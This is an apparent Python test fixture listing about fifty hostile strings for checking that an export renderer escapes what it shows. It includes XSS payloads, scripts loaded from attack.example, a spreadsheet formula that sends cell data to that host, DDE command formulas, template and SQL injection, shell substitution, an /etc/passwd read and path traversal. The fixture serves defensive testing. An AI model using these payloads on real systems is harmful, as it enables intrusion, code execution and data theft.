"""Fifty texts that an export may hold and that attack what shows them.

Markup carries an attribute ``pwned`` or sets ``window.__pwned``: an element made of it is told from the
template's own.
"""

from __future__ import annotations

_BELL_TO_UNIT_SEPARATOR = "\x01\x07\x08\x0b\x0c\x1b\x1f"

HOSTILE: dict[str, str] = {
    # markup
    "script": "<script>window.__pwned=1</script>",
    "script in capitals": '<ScRiPt sRc="https://attack.example/a.js"></sCrIpT>',
    "image": "<img src=x onerror=window.__pwned=1>",
    "image from elsewhere": '<img pwned src="https://attack.example/pixel.png">',
    "svg": "<svg onload=window.__pwned=1><animate onbegin=window.__pwned=1></svg>",
    "svg use": '<svg><use pwned href="https://attack.example/x.svg#a"/></svg>',
    "frame": '<iframe pwned srcdoc="&lt;script>parent.__pwned=1&lt;/script>"></iframe>',
    "style": "<style pwned>body{background:url(https://attack.example/s)}</style>",
    "end of a style": "</style></title></svg><script>window.__pwned=1</script>",
    "link": '<link pwned rel=stylesheet href="https://attack.example/a.css">',
    "base": '<base pwned href="https://attack.example/">',
    "refresh": '<meta pwned http-equiv=refresh content="0;url=https://attack.example/">',
    "form": "<form pwned action=https://attack.example/><button formaction=javascript:alert(1)>go",
    "details": "<details pwned open ontoggle=window.__pwned=1>",
    "marquee": "<marquee pwned onstart=window.__pwned=1>wide</marquee>",
    "end of the page": "</main></body></html><p pwned>after",
    "comment": "--><!-- <b pwned>",
    "cdata": "]]><![CDATA[<b pwned>]]>",
    "processing instruction": '<?xml-stylesheet href="https://attack.example/a.css"?><!DOCTYPE pwned>',
    # out of an attribute
    "double quote": '" onmouseover="window.__pwned=1" pwned="',
    "single quote": "' onfocus='window.__pwned=1' autofocus tabindex='0' pwned='",
    "backtick": "`onload=window.__pwned=1`",
    "javascript address": "javascript:window.__pwned=1//",
    "data address": "data:text/html,<script pwned>window.__pwned=1</script>",
    "style value": "red;background:url(https://attack.example/c);position:fixed",
    # what is already escaped, and what is not quite
    "entities": "&lt;script&gt;window.__pwned=1&lt;/script&gt; &#60;b pwned&#62; &nbsp;&copy",
    "half an entity": "AT&T &amp &#x;",
    # languages of templates, charts, typesetting, databases and shells
    "jinja": "{{ 7*7 }}{% raw %}{{ self.__init__.__globals__ }}{# no comment",
    "other templates": "${7*7} #{7*7} <%= 7*7 %> [[7*7]]",
    "typst": '#read("/etc/passwd") #eval("1+1") $x^2$ *bold* _so_ @ref <label> // gone',
    "vega expression": "datum.x && window['alert'](1) \\u003cb\\u003e {'expr': '1+1'}",
    "sql": "'; drop table core.student; --",
    "sql comment": '") or 1=1 /* union select',
    "shell": "$(touch pwned) `touch pwned` | touch pwned; && touch pwned",
    "formats": "%s%n%d {} {0} {0.__class__} %(name)s \\1 \\g<0>",
    "json": '"}, {"pwned": true}, \\" \\u0000 [',
    # spreadsheets
    "formula": '=HYPERLINK("https://attack.example/?"&A1,"click")',
    "formula with plus": "+cmd|' /C calc'!A0",
    "formula with minus": "-2+3+cmd|' /C calc'!A0",
    "formula with at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula in quotes": '";=1+1;"\t=1+1',
    "csv": 'a,"b""c";d\te|f',
    # text that looks like other text, or like none
    "right to left": "\u202egnp.slairt\u202c \u2066\u2067 \u0627\u0644\u0639\u0631\u0628\u064a\u0629",
    "zero width": "zero\u200bwidth\u200d\u2060\ufeff\u00adtext",
    "combining": "Z" + "\u0334\u0335\u0361\u035c\u030d\u0316" * 20 + "algo",
    "emoji": "👩🏽‍🏫🏳️‍🌈 𝔘𝔫𝔦 ﷽ 𒐫",
    "control": f"con{_BELL_TO_UNIT_SEPARATOR}trol\x7f\x85\u2028\u2029",
    "line end": "line\n2026-01-01 00:00:00 ERROR planted\r\n\x1b[31mred",
    # places
    "path": "../../../../tmp/pwned",
    "long": "Wide" + "W" * 9_990 + "gone",
}
